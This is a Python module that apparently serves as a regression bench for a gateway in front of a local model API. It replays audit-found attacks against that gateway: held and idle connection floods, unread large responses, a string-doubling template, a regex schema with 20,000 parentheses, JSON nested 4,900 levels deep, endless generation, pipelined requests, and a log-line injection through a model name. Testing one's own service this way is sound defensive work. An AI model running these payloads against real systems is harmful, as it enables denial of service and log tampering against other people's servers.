"""The attacks that the door has met, each a bounded program: ``python -m bench.attacks NAME ...``."""

from __future__ import annotations

import argparse
import json
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass

from bench.target import HERE, LONGEST, MODEL, Over, Target, cookie

Run = Callable[[Target], None]


@dataclass(frozen=True)
class Attack:
    """One of them; ``other`` is what another client asks for meanwhile."""

    row: str
    other: str
    run: Run

    @property
    def name(self) -> str:
        """As it is called on the command line."""
        return self.run.__name__.replace("_", "-")

    @property
    def what(self) -> str:
        """In one sentence."""
        return (self.run.__doc__ or "").strip()


ATTACKS: list[Attack] = []


def attack(row: str, other: str = "question") -> Callable[[Run], Run]:
    """Into the list, with its row in the record of what was found."""

    def enter(run: Run) -> Run:
        ATTACKS.append(Attack(row, other, run))
        return run

    return enter


@attack("-")
def nothing(target: Target) -> None:
    """Nobody attacks."""


@attack("1", other="page")
def page_without_body(target: Target) -> None:
    """140 GET of the page announce a body and send none."""
    target.token = ""
    target.hold(target.page, target.head("GET /", "Content-Length: 5"), 140)


@attack("1", other="list")
def list_without_body(target: Target) -> None:
    """140 GET of /api/tags announce a body and send none."""
    target.hold(target.api, target.head("GET /api/tags", "Transfer-Encoding: chunked"), 140)


@attack("2")
def answers_unread(target: Target) -> None:
    """443 connections ask thrice for 1.2 MB and read nothing."""
    plain = target.post("/api/show", {})
    target.hold(
        target.api, target.post("/api/show", {"verbose": True}) + 2 * plain, 443, reads=False
    )


@attack("3")
def template(target: Target) -> None:
    """A template that doubles a string twelve times."""
    doubling = '{{$x := "aaaaaaaa"}}' + '{{$x = printf "%s%s" $x $x}}' * 12
    for _ in target.rounds(0.5):
        target.ask(target.api, target.post("/api/generate", {"template": doubling}))


@attack("3b")
def schema(target: Target) -> None:
    """Schemas with 20,000 parentheses or 4,900 levels, by three routes."""
    pattern = {"type": "string", "pattern": "(" * 20_000 + ")" * 20_000}
    deep = b'{"anyOf":[' * 4900 + b"{}" + b"]}" * 4900
    raw = b'{"model":"%s","format":%s}' % (MODEL.encode(), deep)
    wrapped = {"type": "json_schema", "json_schema": {"name": "a", "schema": pattern}}
    bodies = [
        target.post("/api/generate", {"format": pattern}),
        target.post("/api/generate", raw),
        target.post("/v1/chat/completions", {"messages": [], "response_format": wrapped}),
    ]
    for number in target.rounds(0.5):
        target.ask(target.api, bodies[number % 3])


@attack("5")
def endless_answers(target: Target) -> None:
    """18 connections ask for endless answers, or for the longest that pass."""
    longest = -1 if _answered(target, -1) else 1024

    def one() -> None:
        with suppress(Over):
            for _ in target.rounds(0.2):
                _answered(target, longest, LONGEST)

    with ThreadPoolExecutor(18) as pool:
        for _ in range(18):
            pool.submit(one)


def _answered(target: Target, longest: int, seconds: float = 0.0) -> bool:
    """Ask for so many tokens, and read them for so long; whether there are any."""
    body = {"prompt": "for ever", "stream": True, "options": {"num_predict": longest}}
    answer = b""
    with suppress(OSError), target.open(target.api) as mine:
        mine.sendall(target.post("/api/generate", body))
        mine.settimeout(target.left)
        answer = part = mine.recv(65536)
        mine.settimeout(1)
        for _ in target.rounds(0, seconds):
            if not part or not answer.startswith(b"HTTP/1.1 200") or part.endswith(b"0\r\n\r\n"):
                break
            with suppress(TimeoutError):
                part = mine.recv(65536)
    target.note(answer)
    return answer.startswith(b"HTTP/1.1 200")


@attack("5b", other="pupil")
def new_cookies(target: Target) -> None:
    """A script asks the page 24 times at once, with each cookie once."""
    target.token = ""
    body = b'{"prompt":"hi"}'
    lines = ["Content-Type: application/json", f"Content-Length: {len(body)}", "Connection: close"]

    def one() -> None:
        with suppress(Over):
            for _ in target.rounds(0.1):
                answer = target.ask(target.page, target.head("POST /api/ask", *lines) + body)
                head = target.head("POST /api/ask", *lines, f"Cookie: {cookie(answer)}")
                target.ask(target.page, head + body)

    with ThreadPoolExecutor(24) as pool:
        for _ in range(24):
            pool.submit(one)


@attack("7", other="page")
def idle_connections(target: Target) -> None:
    """2,600 connections to the page say nothing."""
    target.hold(target.page, b"", 2600)


@attack("9")
def keywords_in_options(target: Target) -> None:
    """Options whose names or values are words of the audit."""
    for number in target.rounds(0.2):
        options = ({"out of memory": 1}, {"temperature": 1e308})[number % 2]
        target.ask(target.api, target.post("/api/generate", {"options": options, "stream": False}))


@attack("10")
def two_models(target: Target) -> None:
    """A model's name that breaks the log's line, and two models in one body."""
    bodies = [b'{"model":"abc\\n"}', b'{"model":"%s","Model":"other"}' % MODEL.encode()]
    for number in target.rounds(0.2):
        target.ask(target.api, target.post("/api/generate", bodies[number % 2]))


@attack("10b")
def pipelined_refusals(target: Target) -> None:
    """Requests without a token, as many on one connection as pass."""
    target.token = ""
    many = 1000 * target.head("GET /api/tags")
    for _ in target.rounds(0.01):
        with suppress(OSError), target.open(target.api) as one:
            one.settimeout(1)
            for _ in target.rounds(0):
                one.sendall(many)
                target.got["401"] += one.recv(2**20).count(b"HTTP/1.1 401")


@attack("haproxy 1", other="page")
def refused_bodies(target: Target) -> None:
    """2,100 POST to the page are refused as too large, and their bodies never come."""
    target.token = ""
    target.hold(target.page, target.head("POST /", "Content-Length: 70000"), 2100)


def main() -> None:
    """Run one, then say as JSON what it was answered."""
    options = argparse.ArgumentParser()
    options.add_argument("name", choices=[one.name for one in ATTACKS])
    options.add_argument("--host", default=HERE)
    options.add_argument("--api", type=int, required=True)
    options.add_argument("--page", type=int, required=True)
    options.add_argument("--token", default="")
    options.add_argument("--seconds", type=float, default=LONGEST)
    given = vars(options.parse_args())
    name = given.pop("name")
    target = Target(**given)
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    with suppress(Over):
        next(one for one in ATTACKS if one.name == name).run(target)
    sys.stdout.write(json.dumps(target.got) + "\n")


if __name__ == "__main__":
    main()
